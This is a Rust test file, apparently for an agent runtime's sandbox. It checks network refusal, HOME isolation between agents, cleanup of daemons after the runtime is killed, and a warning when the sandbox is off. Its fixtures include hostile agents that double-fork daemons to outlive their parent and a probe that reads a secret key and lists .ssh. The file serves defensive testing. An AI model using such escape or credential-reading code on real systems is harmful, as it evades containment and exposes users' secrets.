    let out = scene.run(&["install", src.to_str().unwrap(), "--no-env"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    // Installed asking for nothing; its agent.yaml now asks for the local service.
    let installed = scene.agenthub.join("agents/local/later");
    with_permissions(&installed, json!({"network": [format!("localhost:{}", service.port)]}));
    for name in ["local/later", installed.to_str().unwrap()] {
        let got = scene.result(&["exec", name, "run", "--json"]);
        refused(
            &got,
            "reach",
            libc::ECONNREFUSED,
            "the approved declaration (no bridge into the network namespace)",
        );
    }
    assert_eq!(service.hits(), 0);
}

#[test]
fn agents_whose_ids_read_alike_get_homes_of_their_own() {
    let scene = Scene::new();
    let code = "path = os.path.join(os.environ['HOME'], 'mine')\n\
                before = open(path).read() if os.path.exists(path) else None\n\
                open(path, 'w').write(params['who'])\n\
                print(json.dumps({'result': before}))\n";
    for (ns, name) in [("a_b", "c"), ("a", "b_c")] {
        scene.install(
            &TestAgent::new(name).in_namespace(ns).method(
                TestMethod::new("run")
                    .param("who", ParamType::String, true)
                    .behaves(Behaviour::Script(code.into())),
            ),
        );
    }
    assert_eq!(scene.result(&["exec", "a_b/c", "run", "who=a_b/c", "--json"]), Json::Null);
    assert_eq!(
        scene.result(&["exec", "a/b_c", "run", "who=a/b_c", "--json"]),
        Json::Null,
        "a/b_c found what a_b/c left in its HOME: one agent can plant files (SDK configs, caches) for another"
    );
    assert_eq!(scene.result(&["exec", "a_b/c", "run", "who=a_b/c", "--json"]), "a_b/c");
}

/// An `agenthub` run in a PID namespace of its own (as PID 2, below a `sleep` as PID 1), so
/// that no other runtime on this machine sweeps what it leaves: a runtime sweeps only the
/// cgroups of its own PID namespace, and the other tests of this suite (and any other
/// agenthub here) start runtimes all the time. What dies after a SIGKILL of this `agenthub`
/// then dies by the sandbox alone: the process tree nobody else touches.
///
/// Killing the guard (`unshare --kill-child`) ends the whole namespace.
struct Isolated {
    unshare: ChildGuard,
    /// The `agenthub` process, by its pid on the host.
    agenthub: u32,
}

impl Isolated {
    fn spawn(scene: &Scene, args: &[&str], stdin: Stdio) -> Self {
        let inner = scene.command(args);
        let mut cmd = Command::new("unshare");
        // SAFETY: geteuid has no memory effects.
        if unsafe { libc::geteuid() } != 0 {
            cmd.arg("--map-current-user");
        }
        cmd.args(["--pid", "--fork", "--kill-child", "--mount-proc", "--", "sh", "-c"])
            // Background jobs get /dev/null as stdin unless redirected explicitly.
            .arg("exec 3<&0; \"$@\" <&3 3<&- & exec sleep 600 3<&-")
            .arg("sh")
            .arg(inner.get_program())
            .args(inner.get_args())
            .envs(inner.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
            .env_remove("AGENTHUB_SANDBOX")
            .current_dir(&scene.top)
            .stdin(stdin)
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        let mut unshare = ChildGuard::spawn(&mut cmd);
        let mut agenthub = None;
        wait_until("agenthub to start in its own PID namespace", Duration::from_secs(30), || {
            assert!(unshare.running(), "unshare ended early (no PID namespaces for this user?)");
            agenthub = children(unshare.id()).into_iter().flat_map(children).find(|&pid| {
                std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|c| c.trim() == "agenthub")
            });
            agenthub.is_some()
        });
        Self { unshare, agenthub: agenthub.unwrap() }
    }

    fn running(&self) -> bool {
        alive(self.agenthub)
    }

    /// SIGKILL to `agenthub` alone, as a crash or the OOM killer would.
    fn kill_agenthub(&self) {
        // SAFETY: kill has no memory effects.
        unsafe { libc::kill(self.agenthub as i32, libc::SIGKILL) };
        wait_until("agenthub to die", Duration::from_secs(5), || !self.running());
    }
}

/// The pids whose parent is `parent`.
fn children(parent: u32) -> Vec<u32> {
    let Ok(entries) = std::fs::read_dir("/proc") else { return Vec::new() };
    entries
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
        .filter(|pid| {
            let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            stat.rsplit_once(')').and_then(|(_, rest)| rest.split_whitespace().nth(1)?.parse::<u32>().ok())
                == Some(parent)
        })
        .collect()
}

/// Whether `pid` runs (a zombie does not).
fn alive(pid: u32) -> bool {
    let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
    stat.rsplit_once(')').is_some_and(|(_, rest)| !rest.trim_start().starts_with('Z'))
}

/// Every daemon carrying `token` lives in a PID namespace other than this test's: the
/// sandbox's, which the kernel ends with its init.
#[track_caller]
fn in_a_sandbox_pid_namespace(token: &str) {
    let ours = std::fs::read_link("/proc/self/ns/pid").unwrap();
    for pid in survivors(token) {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        let depth =
            status.lines().find_map(|l| l.strip_prefix("NSpid:")).map_or(0, |l| l.split_whitespace().count());
        assert!(
            std::fs::read_link(format!("/proc/{pid}/ns/pid")).is_ok_and(|ns| ns != ours) && depth >= 3,
            "{PID_NS}: the daemon {pid} ({token}) is not in a sandbox's PID namespace (NSpid depth {depth})"
        );
    }
}

/// Forks a daemon (`setsid`, double fork) that runs `sleep 300` under the name `tag` (its
/// command line is `tag 300`: GNU sleep refuses a token as an argument), and returns once
/// the daemon was started.
const DAEMON: &str = r#"
def daemon(tag):
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", [tag, "300"])
        os._exit(0)
    os.waitpid(pid, 0)
"#;

#[test]
fn sigkill_of_agenthub_during_a_one_shot_call_leaves_no_daemon() {
    let scene = Scene::new();
    let token = format!("agenthub-hostile-oneshot-{}", std::process::id());
    let _daemons = Daemons(token.clone());
    scene.install(
        &TestAgent::new("daemon").method(
            TestMethod::new("run")
                .behaves(Behaviour::Script(format!("{DAEMON}\ndaemon({token:?})\ntime.sleep(300)\n"))),
        ),
    );
    let cli = Isolated::spawn(&scene, &["exec", "test/daemon", "run", "--json"], Stdio::null());
    wait_until("the agent's daemon", CALL_LIMIT, || {
        assert!(cli.running(), "the call ended before its daemon started");
        !survivors(&token).is_empty()
    });
    in_a_sandbox_pid_namespace(&token);
    cli.kill_agenthub();
    // Nothing sweeps: the sandbox's PID namespace ends with its init.
    wait_until(&format!("{PID_NS}: the daemon dying with agenthub"), DEATH_LIMIT, || {
        survivors(&token).is_empty()
    });
    drop(cli.unshare);
}

#[test]
fn sigkill_of_agenthub_during_a_batch_leaves_no_worker_daemon() {
    let scene = Scene::new();
    let at_import = format!("agenthub-hostile-import-{}", std::process::id());
    let in_call = format!("agenthub-hostile-call-{}", std::process::id());
    let _daemons = (Daemons(at_import.clone()), Daemons(in_call.clone()));
    let dir = scene.top.join("warm");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(
        dir.join("agent.yaml"),
        "name: warm\nversion: 1.0.0\ndescription: starts daemons\nauthor: t\n\
         interface:\n  methods:\n    hang: {description: starts a daemon and sleeps}\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("agent.py"),
        format!(
            "import json, os, sys, time\n{DAEMON}\ndaemon({at_import:?})\n\n\
             def main():\n    json.loads(sys.argv[1])\n    daemon({in_call:?})\n    time.sleep(300)\n    \
             print(json.dumps({{'result': 'woke'}}))\n\n\nif __name__ == '__main__':\n    main()\n"
        ),
    )
    .unwrap();
    let cli = Isolated::spawn(&scene, &["batch", dir.to_str().unwrap()], Stdio::piped());
    let mut unshare = cli.unshare;
    // One request, and stdin kept open: the batch is mid-call when it is killed.
    let mut stdin: ChildStdin = unshare.0.stdin.take().unwrap();
    stdin.write_all(b"{\"method\": \"hang\", \"id\": 1}\n").unwrap();
    let cli = Isolated { unshare, agenthub: cli.agenthub };
    wait_until("the worker's daemons", CALL_LIMIT, || {
        assert!(cli.running(), "the batch ended before its worker started its daemons");
        !survivors(&at_import).is_empty() && !survivors(&in_call).is_empty()
    });
    in_a_sandbox_pid_namespace(&at_import);
    in_a_sandbox_pid_namespace(&in_call);
    cli.kill_agenthub();
    wait_until(&format!("{PID_NS}: the worker's daemons dying with agenthub"), DEATH_LIMIT, || {
        survivors(&at_import).is_empty() && survivors(&in_call).is_empty()
    });
    drop(stdin);
}

#[test]
fn sigkill_of_agenthub_during_an_environment_build_leaves_no_build_backend() {
    let scene = Scene::new();
    let token = format!("agenthub-hostile-build-{}", std::process::id());
    let _daemons = Daemons(token.clone());
    let dir = scene.install(
        &TestAgent::new("hangs")
            .method(TestMethod::new("ping").behaves(Behaviour::Return(json!("pong"))))
            .requirements_txt("./slowpkg\n"),
    );
    // A local package whose build backend starts a daemon carrying the token, then hangs.
    super::slow_package(
        &dir,
        &format!(
            "import os, time\n{DAEMON}\n\
             def get_requires_for_build_wheel(config_settings=None):\n\
             \x20   daemon({token:?})\n\
             \x20   time.sleep(300)\n\
             \x20   return []\n"
        ),
    );
    let cli = Isolated::spawn(
        &scene,
        &["exec", "test/hangs", "ping", "--json", "--env-backend", "uv"],
        Stdio::null(),
    );
    wait_until("the build backend's daemon", CALL_LIMIT, || {
        assert!(cli.running(), "the build ended before its backend started a daemon");
        !survivors(&token).is_empty()
    });
    in_a_sandbox_pid_namespace(&token);
    cli.kill_agenthub();
    // Nothing sweeps: the build's own PID namespace ends with agenthub.
    wait_until(
        &format!("{PID_NS} of the build: its backend's daemon dying with agenthub"),
        DEATH_LIMIT,
        || survivors(&token).is_empty(),
    );
    drop(cli.unshare);
}

#[test]
fn with_the_sandbox_off_the_same_probe_reads_the_key_and_a_warning_says_so() {
    let scene = Scene::new();
    probe_agents(&scene);
    let boxed = scene.result(&["exec", "test/probe", "peek", "--json"]);
    hidden(&boxed, "read_key", libc::EACCES);
    refused(&boxed, "list_home", libc::EACCES, LANDLOCK);

    let out = scene.run(&["exec", "test/probe", "peek", "--json", "--sandbox", "off"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let open = &json_of(&out)["result"];
    assert_eq!(allowed(open, "read_key"), SECRET_KEY, "with the sandbox off the probe must reach the key");
    assert!(allowed(open, "list_home").as_array().unwrap().contains(&json!(".ssh")), "{open}");
    let warning =
        "warning: the sandbox is off: test/probe runs with all of your rights (files, keys, network)";
    assert_eq!(text(&out.stderr).matches(warning).count(), 1, "{}", text(&out.stderr));
    // The same through AGENTHUB_SANDBOX.
    let out = finish(
        scene.command(&["exec", "test/probe", "peek", "--json"]).env("AGENTHUB_SANDBOX", "off"),
        CALL_LIMIT,
    );
    assert_eq!(allowed(&json_of(&out)["result"], "read_key"), SECRET_KEY);
    assert!(text(&out.stderr).contains(warning), "{}", text(&out.stderr));
}
